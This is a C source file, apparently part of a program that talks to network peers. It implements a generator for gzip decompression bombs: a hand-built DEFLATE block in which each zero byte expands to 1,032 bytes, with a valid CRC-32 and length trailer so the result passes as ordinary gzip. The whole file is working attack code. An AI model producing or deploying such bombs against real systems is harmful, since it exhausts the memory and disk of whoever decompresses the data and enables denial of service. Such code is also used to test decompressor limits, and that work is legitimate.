/*
 * See peer_gzip.h. One block of RFC 1951 whose codes make "258 more of the same byte" two zero bits, so that the data is zero
 * bytes, each unpacking to 1,032.
 */
#include "peer_gzip.h"

#include <string.h>

enum { MATCH = 258 };

struct bits {
	unsigned char *out;
	size_t length;		/* full bytes */
	unsigned pending;	/* bits of out[length] */
};

static void put(struct bits *bits, unsigned value, unsigned count)
{
	while (count--) {
		bits->out[bits->length] |= (unsigned char)((value & 1) << bits->pending);
		value >>= 1;
		if (++bits->pending == 8) {
			bits->pending = 0;
			bits->length++;
		}
	}
}

static void put_block_head(struct bits *bits)
{
	/* Lengths of the codes that code the lengths, in the RFC's order: 18 has one bit (0), 1 and 2 have two (10, 11, first bit first). */
	static const unsigned char lengths[18] = { [2] = 1, [15] = 2, [17] = 2 };
	enum { CODE_ZEROS = 0, CODE_1 = 1, CODE_2 = 3 };
	size_t i;

	put(bits, 1, 1);	/* the last block */
	put(bits, 2, 2);	/* codes of its own */
	put(bits, 29, 5);	/* 286 literals and lengths */
	put(bits, 0, 5);	/* 1 distance */
	put(bits, sizeof lengths - 4, 4);
	for (i = 0; i < sizeof lengths; i++)
		put(bits, lengths[i], 3);

	put(bits, CODE_2, 2);				/* literal 0: two bits */
	put(bits, CODE_ZEROS, 1), put(bits, 138 - 11, 7);	/* 1…255 do not occur */
	put(bits, CODE_ZEROS, 1), put(bits, 117 - 11, 7);
	put(bits, CODE_2, 2);				/* 256, the end: two */
	put(bits, CODE_ZEROS, 1), put(bits, 28 - 11, 7);
	put(bits, CODE_1, 2);				/* 285, a match of 258: one */
	put(bits, CODE_1, 2);				/* distance 1: one */
}

/* CRC-32 is linear: one zero byte is a 32x32 matrix over bits, n of them its nth power. */
static uint32_t apply(const uint32_t matrix[32], uint32_t value)
{
	uint32_t sum = 0;
	unsigned i;

	for (i = 0; i < 32; i++)
		if (value >> i & 1)
			sum ^= matrix[i];
	return sum;
}

static uint32_t crc_of_zeros(uint64_t count)
{
	uint32_t matrix[32], squared[32], crc = UINT32_MAX;
	unsigned i, j;

	for (i = 0; i < 32; i++) {
		matrix[i] = UINT32_C(1) << i;
		for (j = 0; j < 8; j++)
			matrix[i] = matrix[i] >> 1 ^ (matrix[i] & 1 ? UINT32_C(0xedb88320) : 0);
	}
	for (; count; count >>= 1) {
		if (count & 1)
			crc = apply(matrix, crc);
		for (i = 0; i < 32; i++)
			squared[i] = apply(matrix, matrix[i]);
		memcpy(matrix, squared, sizeof matrix);
	}
	return ~crc;
}

static void put_32(struct bits *bits, uint32_t value)
{
	put(bits, value & 0xffff, 16);
	put(bits, value >> 16, 16);
}

void gzip_bomb_make(uint64_t least, struct gzip_bomb *bomb)
{
	static const unsigned char gzip_head[10] = { 0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255 };
	struct bits head = { .out = bomb->head }, tail = { .out = bomb->tail };
	uint64_t matches = least > 1 ? (least - 1 + MATCH - 1) / MATCH : 0, zero_bits;

	memset(bomb, 0, sizeof *bomb);
	memcpy(bomb->head, gzip_head, sizeof gzip_head);
	head.length = sizeof gzip_head;
	put_block_head(&head);
	put(&head, 1, 1), put(&head, 0, 1);	/* literal 0, which the matches repeat */

	zero_bits = head.pending ? 8 - head.pending : 0;
	head.length += head.pending != 0;
	bomb->head_length = head.length;
	if (2 * matches > zero_bits)
		bomb->zeros = (2 * matches - zero_bits + 7) / 8;
	zero_bits += 8 * bomb->zeros;
	if (zero_bits & 1) {
		put(&tail, 0, 1);
		zero_bits++;
	}
	bomb->unpacked = 1 + zero_bits / 2 * MATCH;

	put(&tail, 3, 2);	/* the end of the block */
	if (tail.pending)
		put(&tail, 0, 8 - tail.pending);
	put_32(&tail, crc_of_zeros(bomb->unpacked));
	put_32(&tail, (uint32_t)bomb->unpacked);
	bomb->tail_length = tail.length;
}
